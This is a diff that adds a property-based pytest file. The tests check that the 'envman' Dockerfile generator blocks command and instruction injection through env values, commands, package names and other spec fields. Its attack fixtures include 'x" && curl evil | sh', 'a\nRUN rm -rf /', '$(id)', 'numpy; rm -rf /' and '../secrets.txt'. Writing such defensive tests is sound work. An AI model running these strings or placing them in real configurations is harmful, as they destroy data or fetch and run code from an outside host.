@@ -1,0 +1,142 @@
+"""No user value can add a Dockerfile instruction or a shell command (property-based)."""
+
+from __future__ import annotations
+
+import json
+import string
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from envman.errors import UsageError
+from envman.model import Cc, Resolution, Target
+from envman.plan import plan_dockerfile, quote_docker
+from envman.render import render_dockerfile
+from envman.spec import parse_spec
+
+RES = Resolution(
+    framework="torch", version="2.14.1", variant="cu130", index_url=None, package="torch", companions=(),
+    cuda="13.0", cudnn="9.24.0.43", nccl="2.30.7", python="3.11", base_image="python:3.11-slim-bookworm",
+    base_kind="slim", min_driver="580.95.05", min_driver_minor_compat="580.65.06", driver_mode="full",
+    driver="580.95.05", driver_assumed=True, arch_list=("sm_90",), ptx=(), targets=(Target("h100", Cc(9, 0)),),
+    extras=(), notes=(), warnings=(),
+)
+
+
+def logical_lines(dockerfile: str) -> list[str]:
+    """Docker's reading of a Dockerfile: comments dropped, backslash-newline continues a line."""
+    out, cur = [], ""
+    for raw in dockerfile.splitlines():
+        if raw.lstrip().startswith("#") and not cur:
+            continue
+        if raw.rstrip().endswith("\\"):
+            cur += raw.rstrip()[:-1] + " "
+            continue
+        cur += raw
+        if cur.strip():
+            out.append(cur.strip())
+        cur = ""
+    if cur.strip():
+        out.append(cur.strip())
+    return out
+
+
+def unquote_docker(word: str) -> str:
+    """Docker's double-quote processing: backslash escapes \\, " and $ (shell_parser.go)."""
+    assert word[0] == '"' and word[-1] == '"', word
+    body, out, i = word[1:-1], [], 0
+    while i < len(body):
+        ch = body[i]
+        if ch == "\\" and i + 1 < len(body) and body[i + 1] in '"$\\':
+            out.append(body[i + 1])
+            i += 2
+            continue
+        assert ch not in '"', f"unescaped quote in {word!r}"
+        out.append(ch)
+        i += 1
+    return "".join(out)
+
+
+def render(env=(), command=(), apt=()) -> str:
+    plan = plan_dockerfile(
+        name="demo", res=RES, base_image=RES.base_image, base_kind="slim", header="# h", system_packages=tuple(apt),
+        env=tuple(env), command=tuple(command), lock_hash="a" * 64, inputs_hash="b" * 64,
+        fw_lock="requirements.framework.lock.txt", req_lock="requirements.lock.txt",
+    )
+    return render_dockerfile(plan)
+
+
+BASELINE = [ln.split()[0] for ln in logical_lines(render(env=[("A", "x")], command=["python"]))]
+printable = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="".join(map(chr, range(32))) + "\x7f"), max_size=40)
+
+
+@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
+@given(value=printable, cmd=st.lists(printable, min_size=1, max_size=4))
+def test_env_and_command_cannot_add_instructions(value, cmd):
+    text = render(env=[("A", value)], command=cmd)
+    lines = logical_lines(text)
+    assert [ln.split()[0] for ln in lines] == BASELINE
+    env_line = next(ln for ln in lines if ln.startswith("ENV A="))
+    assert unquote_docker(env_line[len("ENV A="):]) == value
+    cmd_line = next(ln for ln in lines if ln.startswith("CMD "))
+    assert json.loads(cmd_line[4:]) == cmd
+
+
+@settings(max_examples=300)
+@given(value=st.text(max_size=30))
+def test_spec_values_with_control_characters_are_refused(value):
+    """Newlines, tabs, NUL … never reach a template: the spec refuses them with a field name."""
+    data = {"name": "demo", "env": {"A": value}, "command": ["python", value], "packages": [], "cpu": True}
+    if any(ord(c) < 32 or ord(c) == 127 for c in value):
+        with pytest.raises(UsageError) as exc:
+            parse_spec(data)
+        assert exc.value.message.startswith("envman.yaml: env.A: ") or exc.value.message.startswith("envman.yaml: command")
+    else:
+        spec = parse_spec(data)
+        assert dict(spec.env)["A"] == value
+
+
+@settings(max_examples=300)
+@given(name=st.text(alphabet=string.ascii_letters + string.digits + "+.-=:~_ ;&|$()`'\"\\\n<>*", min_size=1, max_size=20))
+def test_apt_names_are_single_shell_words(name):
+    try:
+        spec = parse_spec({"name": "demo", "system_packages": [name], "cpu": True})
+    except UsageError as exc:
+        assert exc.message.startswith("envman.yaml: system_packages[0]: ")
+        return
+    text = render(apt=spec.system_packages)
+    lines = logical_lines(text)
+    run = next(ln for ln in lines if "apt-get install" in ln)
+    assert run.split()[-1] == name and not set(name) & set(";&|$()`'\"\\<>* \n")
+
+
+@pytest.mark.parametrize("bad", ["a\nRUN rm -rf /", 'x" && curl evil | sh', "$(id)", "a\\", "`id`"])
+def test_quote_docker_known_attacks(bad):
+    if "\n" in bad:
+        with pytest.raises(ValueError):
+            quote_docker(bad)
+        return
+    assert unquote_docker(quote_docker(bad)) == bad
+
+
+@pytest.mark.parametrize("field,value,message", [
+    ("packages", ["numpy; rm -rf /"], "envman.yaml: packages[0]: 'numpy; rm -rf /' is not a valid requirement"),
+    ("packages", ["torch @ https://evil/x.whl"], "envman.yaml: packages[0]: 'torch @ https://evil/x.whl' is a direct URL"),
+    ("name", "My Project", "envman.yaml: name: 'My Project' is not a valid image name"),
+    ("env", {"BAD-NAME": "x"}, "envman.yaml: env.BAD-NAME: 'BAD-NAME' is not an environment variable name"),
+    ("requirements", ["../secrets.txt"], "envman.yaml: requirements[0]: '../secrets.txt' is not a relative path inside the project"),
+    ("base_image", "python:3.11\nRUN x", "envman.yaml: base_image: 'python:3.11\\nRUN x' contains a control character (newline, tab …)"),
+    ("targts", ["h100"], "envman.yaml: targts: unknown key"),
+])
+def test_bad_spec_values(field, value, message):
+    data = {"name": "demo", "cpu": True, field: value}
+    with pytest.raises(UsageError) as exc:
+        parse_spec(data)
+    assert exc.value.message.startswith(message), exc.value.message
+
+
+def test_unknown_key_hint_names_closest():
+    with pytest.raises(UsageError) as exc:
+        parse_spec({"name": "demo", "targts": ["h100"]})
+    assert exc.value.hint == "did you mean 'targets'?"
